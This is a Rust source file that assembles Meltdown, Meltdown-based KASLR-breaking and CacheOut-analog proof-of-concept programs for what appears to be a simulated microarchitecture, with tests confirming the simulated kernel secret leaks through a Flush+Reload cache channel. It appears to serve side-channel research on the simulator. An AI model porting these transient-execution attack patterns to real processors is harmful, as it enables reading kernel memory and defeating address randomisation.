//! Meltdown and its descendants: breakingKSLR and the CacheOut analog.

use uarch_isa::{Assembler, MarkKind, Program, Reg};

use crate::layout::{
    emit_flush_range, emit_probe_argmin, emit_record_result, install_common_segments,
    KERNEL_SECRET, LINE, PROBE_ARRAY, RESULTS, SECRET, VICTIM_BUF,
};

/// Base of the KASLR candidate region (breakingKSLR probes
/// `KASLR_REGION + i * KASLR_STRIDE`).
pub const KASLR_REGION: u64 = 0x9000_0000;
/// Distance between KASLR candidates.
pub const KASLR_STRIDE: u64 = 0x1_0000;
/// The candidate slot that is actually mapped.
pub const KASLR_MAPPED_SLOT: u64 = 11;
/// Number of candidates probed per sweep.
pub const KASLR_CANDIDATES: u64 = 16;
/// The marker byte stored at the mapped candidate.
pub const KASLR_MARKER: u8 = 0xab;

/// Builds the Meltdown PoC: a faulting kernel load whose value is forwarded
/// speculatively to a Flush+Reload disclosure gadget, with a fault handler
/// that probes and loops.
pub fn meltdown() -> Program {
    let mut a = Assembler::new("meltdown");
    install_common_segments(&mut a);
    a.kernel_data(KERNEL_SECRET, SECRET.to_vec());

    let handler = a.label();
    let outer = a.label();
    a.on_fault(handler);

    a.li(Reg::R20, 0); // secret byte index
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.mark(MarkKind::PhaseSpeculate);
    a.li(Reg::R14, KERNEL_SECRET as i64);
    a.add(Reg::R14, Reg::R14, Reg::R20);
    a.loadb(Reg::R6, Reg::R14, 0); // faults at commit; data forwards now
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, PROBE_ARRAY as i64);
    a.loadb(Reg::R7, Reg::R6, 0); // transient probe touch
    a.nop(); // never commits
    a.jmp(outer); // unreachable; the fault redirects

    a.bind(handler);
    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin(&mut a, Reg::R25);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    a.finish().expect("meltdown assembles")
}

/// Builds the breakingKSLR PoC (Meltdown-based): probe a range of candidate
/// kernel addresses; the mapped one forwards a marker byte through the
/// cache channel, the unmapped ones forward zero.
pub fn breaking_kaslr() -> Program {
    let mut a = Assembler::new("breaking-kslr");
    install_common_segments(&mut a);
    a.kernel_data(
        KASLR_REGION + KASLR_MAPPED_SLOT * KASLR_STRIDE,
        vec![KASLR_MARKER; 64],
    );

    let handler = a.label();
    let outer = a.label();
    a.on_fault(handler);

    a.li(Reg::R20, 0); // candidate index
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.mark(MarkKind::PhaseSpeculate);
    // candidate address = KASLR_REGION + idx * KASLR_STRIDE
    a.li(Reg::R14, KASLR_STRIDE as i64);
    a.mul(Reg::R14, Reg::R14, Reg::R20);
    a.addi(Reg::R14, Reg::R14, KASLR_REGION as i64);
    a.loadb(Reg::R6, Reg::R14, 0); // faults; forwards 0 or the marker
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, PROBE_ARRAY as i64);
    a.loadb(Reg::R7, Reg::R6, 0);
    a.jmp(outer); // unreachable

    a.bind(handler);
    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin(&mut a, Reg::R25);
    // A non-zero probe winner means the candidate was mapped: record the
    // candidate index at RESULTS[32].
    let not_mapped = a.label();
    a.beqz(Reg::R25, not_mapped);
    a.li(Reg::R1, (RESULTS + 32) as i64);
    a.storeb(Reg::R20, Reg::R1, 0);
    a.mark(MarkKind::LeakByte);
    a.bind(not_mapped);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (KASLR_CANDIDATES - 1) as i64);
    a.jmp(outer);

    a.finish().expect("breaking_kaslr assembles")
}

/// Builds the CacheOut-analog PoC.
///
/// CacheOut leaks data as it transits the line fill buffers during cache
/// evictions. The analog reproduces that composite footprint on this
/// machine: the attacker dirties victim lines, flushes them (pushing the
/// data into the DRAM write queue — the buffer being sampled), immediately
/// re-reads them (reads serviced by the write queue, the paper's
/// `bytesReadWrQ` signature), and recovers the value with a faulting load on
/// the kernel alias plus a Flush+Reload probe.
pub fn cacheout() -> Program {
    let mut a = Assembler::new("cacheout");
    install_common_segments(&mut a);
    a.kernel_data(KERNEL_SECRET, SECRET.to_vec());
    a.data(VICTIM_BUF, vec![0u8; 16 * LINE as usize]);

    let handler = a.label();
    let outer = a.label();
    a.on_fault(handler);

    a.li(Reg::R20, 0);
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    // Victim-like phase: dirty a run of lines, flush them (dirty data moves
    // into the DRAM write queue), then immediately read them back so the
    // reads are serviced by the write queue.
    a.li(Reg::R10, VICTIM_BUF as i64);
    a.li(Reg::R11, 8); // lines
    let dirty = a.label();
    a.bind(dirty);
    a.store(Reg::R20, Reg::R10, 0);
    a.flush(Reg::R10, 0);
    a.load(Reg::R12, Reg::R10, 0);
    a.addi(Reg::R10, Reg::R10, LINE as i64);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, dirty);

    a.mark(MarkKind::PhaseSpeculate);
    // Sample the in-flight secret via the kernel alias.
    a.li(Reg::R14, KERNEL_SECRET as i64);
    a.add(Reg::R14, Reg::R14, Reg::R20);
    a.loadb(Reg::R6, Reg::R14, 0);
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, PROBE_ARRAY as i64);
    a.loadb(Reg::R7, Reg::R6, 0);
    a.jmp(outer); // unreachable

    a.bind(handler);
    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin(&mut a, Reg::R25);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    a.finish().expect("cacheout assembles")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::run_on_machine;

    #[test]
    fn meltdown_recovers_kernel_bytes() {
        let m = run_on_machine(meltdown(), 3_000_000);
        let core = m.core(0);
        let mut hits = 0;
        for (i, &expect) in SECRET.iter().enumerate() {
            if core.mem().memory().read(RESULTS + i as u64, 1) as u8 == expect {
                hits += 1;
            }
        }
        assert!(
            hits >= SECRET.len() / 2,
            "Meltdown should leak, got {hits} bytes"
        );
        assert!(core.stats().commit.faults.value() > 10);
    }

    #[test]
    fn breaking_kaslr_finds_the_mapped_candidate() {
        let m = run_on_machine(breaking_kaslr(), 3_000_000);
        let core = m.core(0);
        assert_eq!(
            core.mem().memory().read(RESULTS + 32, 1),
            KASLR_MAPPED_SLOT,
            "the mapped candidate slot must be identified"
        );
        assert!(core.stats().commit.faults.value() > 10);
    }

    #[test]
    fn cacheout_reads_hit_the_write_queue() {
        let m = run_on_machine(cacheout(), 1_000_000);
        let core = m.core(0);
        assert!(
            m.uncore().mem_ctrl().stats().bytes_read_wr_q.value() > 0,
            "CacheOut analog must exercise write-queue read servicing"
        );
        assert!(core.stats().commit.faults.value() > 0);
    }
}
